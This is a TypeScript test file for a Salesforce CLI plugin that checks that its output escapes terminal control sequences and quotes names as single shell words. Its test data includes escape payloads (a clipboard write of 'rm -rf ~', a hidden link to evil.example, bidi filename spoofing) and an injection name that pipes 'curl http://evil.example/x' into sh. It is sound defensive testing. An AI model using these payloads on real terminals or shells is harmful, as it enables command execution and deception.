import { readdirSync } from 'node:fs';
import { stripVTControlCharacters } from 'node:util';
import { Messages } from '@salesforce/core/messages';
import { expect } from 'chai';
import fc from 'fast-check';
import { shellWord } from '../../../src/errors/shell-word.ts';
import { visible, visibleData, visibleJson, visiblePage } from '../../../src/output/safety/visible.ts';
import { fillPlaces, messageText } from '../../../src/output/page/texts.ts';
import { undoText } from '../../../src/output/undo/undo-text.ts';

Messages.importMessagesDirectoryFromMetaUrl(import.meta.url);

const hostile = [
  'nice\u001b[2J\u001b]52;c;cm0gLXJmIH4K\u0007',
  '\u001b]8;;http://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  'Robot\u009b2J\u009d0;title\u009c',
  '\u202egnp.exe\u2066\u2069',
  'a\r\nb\u2028c\u2029d\u0085e',
  '\u0000\u0008\u007f\u200b\ufeff\u{e0041}',
];
const orders = /(?!\n)\p{Cc}|[\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e007f}]/u;
const anyHostile = fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: 'binary', maxLength: 30 }));

/** Every text of every bundle in `messages`, with its key. */
function allTexts(): Array<readonly [key: string, text: string]> {
  const names = readdirSync(new URL('../../../messages/', import.meta.url)).map((file) => file.replace(/\.md$/, ''));
  return names.flatMap((name) => {
    const bundle = Messages.loadMessages('sf-plugin-eca', name);
    const { messages } = bundle as unknown as { messages: Map<string, string | string[]> };
    return [...messages].flatMap(([key, text]) =>
      [text].flat(2).map((one) => [`${name}: ${key}`, String(one)] as const),
    );
  });
}

describe('attack: texts of an org control the terminal, forge lines or hide', () => {
  const texts = allTexts();

  it('no value in a text of ours controls the terminal', () => {
    expect(texts.length).to.be.greaterThan(1000);
    for (const [key, text] of texts) {
      for (const value of hostile) {
        const data = Object.fromEntries([...text.matchAll(/\{(\w+)\}/g)].map(([, name = '']) => [name, value]));
        expect(fillPlaces(text, data), key).not.to.match(orders);
      }
    }
  });

  it('any value is one line, and its special characters are visible', () => {
    fc.assert(
      fc.property(anyHostile, (value) => {
        expect(visible(value)).not.to.match(orders).and.not.include('\n');
        expect(stripVTControlCharacters(visiblePage(value))).not.to.match(orders);
      }),
    );
    expect(visible('a\u001b[2J\nb\u202e\u009b')).to.equal('a␛[2J␊b‹202E›‹009B›');
  });

  it('a page of ours keeps its lines and its colours', () => {
    const page = '\u001b[1mAcme\u001b[22m\n  \u001b[32m✓\u001b[39m Grüße 👩‍👩‍👧 日本語';
    expect(visiblePage(page)).to.equal(page);
  });

  it('a result has no control characters when shown, in names and values, and stays unchanged', () => {
    const when = new Date(0);
    expect(visibleData({ apps: [{ label: 'a\nb', 'k\u001b': 1, none: null, when }] })).to.deep.equal({
      apps: [{ label: 'a␊b', 'k␛': 1, none: null, when }],
    });
  });

  it('JSON has escapes for them, and the same values', () => {
    fc.assert(
      fc.property(anyHostile, (value) => {
        const json = visibleJson(JSON.stringify({ value }, null, 2));
        expect(json).not.to.match(orders);
        expect(JSON.parse(json)).to.deep.equal({ value });
      }),
    );
  });
});

describe('attack: a name runs in the shell of a user who copies a command', () => {
  const texts = allTexts();
  const name = 'Acme;curl -s http://evil.example/x|sh #$(id)`id`\'"';

  it('every value in a command to copy is one word', () => {
    const commands = texts.filter(([, text]) => /\bsf eca [^\n]*\{\w+\}/.test(text));
    expect(commands.length).to.be.greaterThan(100);
    for (const [key, text] of commands) {
      const data = Object.fromEntries([...text.matchAll(/\{(\w+)\}/g)].map(([, place = '']) => [place, name]));
      for (const [command = ''] of fillPlaces(text, data).matchAll(/\bsf eca [^\n]*/g)) {
        const asked = /\bsf eca [^"\n]*/.exec(text)?.[0] ?? '';
        if (/\{(?!option\}|onOrg\}|manifestOption\}|kindOption\})\w+\}/.test(asked))
          expect(command, key).to.include(shellWord(name));
      }
    }
  });

  it('harmless values stay unchanged', () => {
    for (const plain of ['Acme_Sync', 'admin@acme.com', 'force-app/main', '', 'https://a.example/cb']) {
      expect(shellWord(plain)).to.equal(plain);
    }
    expect(shellWord("it's")).to.equal("'it'\\''s'");
    expect(shellWord('My App')).to.equal("'My App'");
  });

  it('what a terminal obeys or hides has escapes of the shell, so that the command finds the file', () => {
    expect(shellWord("a\tb's\u001b.json")).to.equal(String.raw`$'a\011b\'s\033.json'`);
    expect(shellWord('a\u202eb\\')).to.equal(String.raw`$'a\342\200\256b\\'`);
    const printed = messageText('output', 'undo.command', { file: 'a\tb.json' });
    expect(printed).to.equal(String.raw`sf eca undo $'a\011b.json'`);
  });

  it('a printed way back is one line, however long its file is called', () => {
    const file = `${'folder/'.repeat(20)}before change.json`;
    const none = (): string[] => [];
    const saved = { apps: (): string[] => ['Acme'], created: none, withoutCertificate: none, lost: none };
    const lines = undoText(file, true, saved).split('\n');
    expect(lines.map((line) => line.trim())).to.include(`sf eca undo '${file}'`);
    expect(undoText('a.json', false, saved)).to.equal('To undo this: sf eca undo a.json');
  });
});
